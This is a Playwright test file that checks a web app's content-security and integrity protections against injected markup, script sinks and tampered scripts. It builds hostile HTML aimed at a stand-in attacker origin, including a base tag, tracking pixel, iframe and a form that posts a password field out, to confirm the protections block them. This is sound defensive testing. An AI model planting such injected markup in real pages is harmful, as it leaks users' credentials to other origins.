import { expect, test as withStack } from './fixtures.ts';
import { allSinks, EVIL, MARKUP, ranOn, SINKS, visit } from './injection.ts';
import { allowErrors } from './page-guards.ts';
import { startProductionSite } from './production-site.ts';
import { acceptEntryWarning, untilSignedIn } from './test-users.ts';

interface Site {
  /** How the server under attack is run: the stack's own, or one more in production mode behind TLS. */
  mode: 'demo' | 'production';
  origin: string;
}

const test = withStack.extend<Site>({
  mode: ['demo', { option: true }],
  origin: async ({ stack, mode }, use) => {
    if (mode === 'demo') return use(stack.origin);
    const production = await startProductionSite(stack);
    await use(production.origin);
    await production.stop();
  },
  // A service worker would fetch the documents that these tests modify.
  contextOptions: ({ contextOptions }, use) => use({ ...contextOptions, serviceWorkers: 'block', ignoreHTTPSErrors: true }),
});

// Browsers log every blocked attack; the unprotected control also sends requests to the other origin.
test.beforeEach(({ context }) => allowErrors(context, /./));

attacks();

test.describe('a started production server', { tag: '@full' }, () => {
  test.use({ mode: 'production' });
  attacks();

  test('[R15] serves a login, a search and a chat without breaking its own policies', async ({ context, origin }) => {
    const errors: string[] = [];
    // The stack's drawn photos are the demo's own.
    const isMissing = (text: string) => text.includes('the server responded with a status of 404');
    context.on('console', (message) => message.type() === 'error' && !isMissing(message.text()) && errors.push(message.text()));
    await acceptEntryWarning(context, { origin });
    const page = await context.newPage();
    await page.goto(`${origin}/login`);
    await page.getByLabel('Username or email').fill('premium');
    await page.getByLabel('Password', { exact: true }).fill('good evening');
    await page.getByRole('button', { name: 'Log in', exact: true }).click();
    await untilSignedIn(page);
    expect((await context.cookies(origin)).filter(({ name }) => name.includes('session'))).toMatchObject([
      { name: '__Host-session', secure: true, httpOnly: true },
    ]);
    for (const path of ['/members', '/chats', '/credits']) {
      await page.goto(origin + path);
      await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
      await untilSignedIn(page);
    }
    expect(errors).toEqual([]);
  });
});

function attacks(): void {
  test('[R15] injected markup of any kind runs nothing', async ({ context, origin }) => {
    const look = async (isBare: boolean) => {
      const visited = await visit(context, origin, { markup: Object.values(MARKUP).join('\n'), isBare });
      await visited.page.locator('#press').dispatchEvent('click');
      return visited;
    };
    const bare = await look(true);
    await expect.poll(() => ranOn(bare.page)).toEqual(expect.arrayContaining(Object.keys(MARKUP)));

    const { page, taken } = await look(false);
    await expect.poll(() => page.evaluate(() => document.readyState)).toBe('complete');
    expect(await ranOn(page)).toEqual([]);
    expect(taken).toEqual([]);
  });

  test('[R15] text that reaches one of the browser’s injection sinks is blocked there', async ({ context, origin }) => {
    const tried = (isBare: boolean) => visit(context, origin, { script: allSinks(), isBare });
    const bare = await tried(true);
    await expect.poll(() => ranOn(bare.page)).toEqual(expect.arrayContaining(Object.keys(SINKS)));

    const { page, taken } = await tried(false);
    await expect.poll(() => page.evaluate(() => (globalThis as { tried?: number }).tried)).toBe(Object.keys(SINKS).length);
    expect(await ranOn(page)).toEqual([]);
    expect(taken).toEqual([]);
  });

  test('[R15] an injected base, form, style or picture sends nothing to another origin', async ({ context, origin }) => {
    const markup = `
      <base href="${EVIL}/">
      <style>#marked { position: fixed }</style>
      <link rel="stylesheet" href="${EVIL}/style.css">
      <p id="marked" style="opacity: 0.5">marked</p>
      <img src="${EVIL}/pixel.png"><object data="${EVIL}/object"></object><embed src="${EVIL}/embed"><iframe src="${EVIL}/frame"></iframe>
      <form id="form" action="${EVIL}/form" method="post"><input name="password" value="typed"><button id="send">send</button></form>`;
    const look = async (isBare: boolean) => {
      const { page, taken } = await visit(context, origin, { markup, isBare });
      const base = await page.evaluate(() => document.baseURI);
      const { position, opacity } = await page.locator('#marked').evaluate((marked) => {
        const style = getComputedStyle(marked);
        return { position: style.position, opacity: style.opacity };
      });
      await page.locator('#send').evaluate((button) => (button as HTMLButtonElement).click());
      await page.waitForLoadState();
      return { page, taken, base, position, opacity };
    };
    const bare = await look(true);
    await expect
      .poll(() => bare.taken)
      .toEqual(expect.arrayContaining(['/style.css', '/pixel.png', '/object', '/embed', '/frame', '/form']));
    expect(bare).toMatchObject({ base: `${EVIL}/`, position: 'fixed', opacity: '0.5' });

    const { page, ...guarded } = await look(false);
    expect(guarded).toEqual({ taken: [], base: `${origin}/login`, position: 'static', opacity: '1' });
    expect(page.url()).toBe(`${origin}/login`);
  });

  test('[R13 R15] a listed script that was changed in transit does not run', async ({ context, origin }) => {
    const html = await (await context.request.get(`${origin}/login`)).text();
    const [entry = ''] = /\/assets\/shell[\w.-]+\.js/.exec(html) ?? [];
    const real = await (await context.request.get(origin + entry)).text();
    const page = await context.newPage();
    await page.route(
      (url) => url.pathname === entry,
      (route) => route.fulfill({ contentType: 'text/javascript', body: `globalThis.ran = ['changed'];\n${real}` }),
    );
    const refused = page.waitForEvent('console', (message) => /integrity|digest/i.test(message.text()));
    await page.goto(`${origin}/login`);
    await refused;
    expect(await ranOn(page)).toEqual([]);
  });
}
